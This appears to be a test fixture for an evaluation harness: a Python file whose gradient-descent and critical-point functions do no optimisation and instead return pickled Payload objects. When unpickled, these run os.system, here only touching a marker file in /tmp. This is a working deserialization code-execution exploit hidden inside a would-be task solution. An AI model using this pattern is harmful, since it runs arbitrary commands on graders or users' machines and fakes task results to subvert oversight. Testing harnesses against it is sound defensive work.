"""Returns objects that would run a command where they are unpickled."""

import os
import pickle

import numpy as np


def loss(x):
    return x**4 - 3 * x**2 + 2


def grad(x):
    return 4 * x**3 - 6 * x


class Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/gdk-marker-pickle",))

    __reduce_ex__ = lambda self, protocol: self.__reduce__()

    def __getstate__(self):
        return {}


def gradient_descent(loss_fn, grad_fn, theta_init, lr, num_steps):
    return np.array(Payload(), dtype=object), [Payload()] * num_steps


def find_critical_points(loss_fn, grad_fn, starts, lr=0.01, num_steps=2000):
    return [(pickle.dumps(Payload()), "minimum"), (np.array([Payload()]), "maximum")]
